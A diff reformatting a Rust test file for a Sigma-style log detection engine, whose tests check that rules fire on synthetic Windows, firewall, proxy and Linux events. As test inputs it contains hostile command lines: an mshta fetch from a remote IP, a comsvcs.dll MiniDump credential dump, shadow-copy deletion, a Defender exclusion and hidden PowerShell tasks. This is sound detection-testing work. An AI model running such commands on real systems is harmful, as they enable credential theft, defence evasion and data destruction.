@@ -6,7 +6,8 @@ use kakari_detect::sigma::{Engine, Event, LogSource, RuleMask, RuleSet};
 use serde_json::{Value, json};
 
 fn files(folder: &Path, found: &mut Vec<(String, Vec<u8>)>) {
-    let mut paths: Vec<PathBuf> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
+    let mut paths: Vec<PathBuf> =
+        std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
     paths.sort();
     for path in paths {
         if path.is_dir() {
@@ -30,7 +31,11 @@ fn rules() -> RuleSet {
 fn every_rule_speaks_to_people_in_both_languages() {
     let set = rules();
     for rule in set.infos().chain(set.correlations().iter().map(|correlation| &correlation.info)) {
-        assert!(rule.title_ja.is_some() && rule.advice_ja.is_some() && rule.advice_en.is_some(), "{}", rule.title);
+        assert!(
+            rule.title_ja.is_some() && rule.advice_ja.is_some() && rule.advice_en.is_some(),
+            "{}",
+            rule.title
+        );
         assert!(rule.tags.iter().any(|tag| tag.starts_with("attack.t")), "{}", rule.title);
         assert_eq!(rule.id.len(), 36, "{}", rule.title);
     }
@@ -60,37 +65,77 @@ fn windows_rules_see_what_they_are_for() {
     let engine = Engine::compile(rules());
     let encoded = "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA";
     let service = |path: &str| {
-        windows("System", 7045, json!({"Provider_Name": "Service Control Manager", "ServiceName": "x", "ImagePath": path}))
+        windows(
+            "System",
+            7045,
+            json!({"Provider_Name": "Service Control Manager", "ServiceName": "x", "ImagePath": path}),
+        )
     };
     for (event, title) in [
-        (process(json!({"Image": "C:\\x\\powershell.exe", "CommandLine": encoded})), Some("PowerShell started")),
+        (
+            process(json!({"Image": "C:\\x\\powershell.exe", "CommandLine": encoded})),
+            Some("PowerShell started"),
+        ),
         (process(json!({"Image": "C:\\x\\powershell.exe", "CommandLine": "powershell -File a.ps1"})), None),
         (windows("Security", 1102, json!({})), Some("Event log was cleared")),
         (windows("System", 104, json!({})), Some("Event log was cleared")),
         (windows("System", 1102, json!({})), None),
-        (windows("Microsoft-Windows-Windows Defender/Operational", 1116, json!({})), Some("Microsoft Defender found")),
-        (windows("Microsoft-Windows-Windows Defender/Operational", 5001, json!({})), Some("Microsoft Defender protection")),
+        (
+            windows("Microsoft-Windows-Windows Defender/Operational", 1116, json!({})),
+            Some("Microsoft Defender found"),
+        ),
+        (
+            windows("Microsoft-Windows-Windows Defender/Operational", 5001, json!({})),
+            Some("Microsoft Defender protection"),
+        ),
         (service("C:\\Windows\\Temp\\a.exe"), Some("New service")),
         (service("C:\\Program Files\\a\\a.exe"), None),
         (service("%SystemRoot%\\PSEXESVC.exe"), Some("Remote command tool")),
         (process(json!({"CommandLine": "vssadmin delete shadows /all /quiet"})), Some("Backup copies")),
-        (process(json!({"Image": "C:\\x\\mshta.exe", "CommandLine": "mshta http://198.51.100.7/a.hta"})), Some("Windows tool ran")),
-        (process(json!({"CommandLine": "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 x full"})), Some("Passwords")),
+        (
+            process(json!({"Image": "C:\\x\\mshta.exe", "CommandLine": "mshta http://198.51.100.7/a.hta"})),
+            Some("Windows tool ran"),
+        ),
+        (
+            process(
+                json!({"CommandLine": "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 x full"}),
+            ),
+            Some("Passwords"),
+        ),
         (windows("Security", 4732, json!({"TargetSid": "S-1-5-32-544"})), Some("Somebody was made")),
         (windows("Security", 4732, json!({"TargetSid": "S-1-5-32-555"})), None),
-        (process(json!({"ParentImage": "C:\\x\\WINWORD.EXE", "Image": "C:\\x\\cmd.exe"})), Some("Office document")),
         (
-            windows("Microsoft-Windows-Sysmon/Operational", 13, json!({
-                "TargetObject": "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a",
-                "Details": "C:\\Users\\a\\AppData\\Roaming\\a.exe",
-            })),
+            process(json!({"ParentImage": "C:\\x\\WINWORD.EXE", "Image": "C:\\x\\cmd.exe"})),
+            Some("Office document"),
+        ),
+        (
+            windows(
+                "Microsoft-Windows-Sysmon/Operational",
+                13,
+                json!({
+                    "TargetObject": "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a",
+                    "Details": "C:\\Users\\a\\AppData\\Roaming\\a.exe",
+                }),
+            ),
             Some("Program set to start"),
         ),
-        (process(json!({"Image": "C:\\x\\schtasks.exe", "CommandLine": "schtasks /create /tn a /tr \"powershell -w hidden\""})), Some("Scheduled task")),
-        (windows("Security", 4720, json!({"TargetUserName": "new"})), Some("User account")),
-        (process(json!({"CommandLine": "powershell Add-MpPreference -ExclusionPath C:\\"})), Some("Folder was taken out")),
         (
-            windows("Security", 4688, json!({"NewProcessName": "C:\\x\\cmd.exe", "ParentProcessName": "C:\\x\\EXCEL.EXE"})),
+            process(
+                json!({"Image": "C:\\x\\schtasks.exe", "CommandLine": "schtasks /create /tn a /tr \"powershell -w hidden\""}),
+            ),
+            Some("Scheduled task"),
+        ),
+        (windows("Security", 4720, json!({"TargetUserName": "new"})), Some("User account")),
+        (
+            process(json!({"CommandLine": "powershell Add-MpPreference -ExclusionPath C:\\"})),
+            Some("Folder was taken out"),
+        ),
+        (
+            windows(
+                "Security",
+                4688,
+                json!({"NewProcessName": "C:\\x\\cmd.exe", "ParentProcessName": "C:\\x\\EXCEL.EXE"}),
+            ),
             Some("Office document"),
         ),
     ] {
@@ -112,16 +157,40 @@ fn device_rules_see_what_they_are_for() {
     for (event, source, title) in [
         (login("203.0.113.9"), fortigate(), Some("Administrator logged in")),
         (login("192.168.1.5"), fortigate(), None),
-        (json!({"type": "utm", "subtype": "virus", "action": "blocked", "virus": "EICAR"}), fortigate(), Some("Virus blocked")),
+        (
+            json!({"type": "utm", "subtype": "virus", "action": "blocked", "virus": "EICAR"}),
+            fortigate(),
+            Some("Virus blocked"),
+        ),
         (json!({"type": "utm", "subtype": "virus", "action": "monitored"}), fortigate(), Some("Virus found")),
-        (json!({"type": "utm", "subtype": "ips", "attack": "Mirai.Botnet", "action": "dropped"}), fortigate(), Some("Contact with a botnet")),
-        (json!({"type": "utm", "subtype": "ips", "severity": "critical", "action": "detected"}), fortigate(), Some("Serious attack")),
-        (json!({"type": "event", "subtype": "system", "cfgpath": "log.syslogd.setting"}), fortigate(), Some("Logging was changed")),
+        (
+            json!({"type": "utm", "subtype": "ips", "attack": "Mirai.Botnet", "action": "dropped"}),
+            fortigate(),
+            Some("Contact with a botnet"),
+        ),
+        (
+            json!({"type": "utm", "subtype": "ips", "severity": "critical", "action": "detected"}),
+            fortigate(),
+            Some("Serious attack"),
+        ),
+        (
+            json!({"type": "event", "subtype": "system", "cfgpath": "log.syslogd.setting"}),
+            fortigate(),
+            Some("Logging was changed"),
+        ),
         (json!({"c-uri": "http://203.0.113.9/a.exe"}), proxy(), Some("Program download from a bare")),
         (json!({"c-uri": "http://192.168.0.9/a.exe"}), proxy(), Some("Program downloaded")),
         (json!({"c-uri": "https://example.com/index.html"}), proxy(), None),
-        (json!({"raw": "sshd[1]: Accepted password for root from 203.0.113.9 port 22 ssh2"}), linux("sshd"), Some("Root logged in")),
-        (json!({"raw": "sudo: taro : user NOT in sudoers ; TTY=pts/0"}), linux("sudo"), Some("Attempt to become root")),
+        (
+            json!({"raw": "sshd[1]: Accepted password for root from 203.0.113.9 port 22 ssh2"}),
+            linux("sshd"),
+            Some("Root logged in"),
+        ),
+        (
+            json!({"raw": "sudo: taro : user NOT in sudoers ; TTY=pts/0"}),
+            linux("sudo"),
+            Some("Attempt to become root"),
+        ),
     ] {
         let found = fires(&engine, &event, source);
         match title {
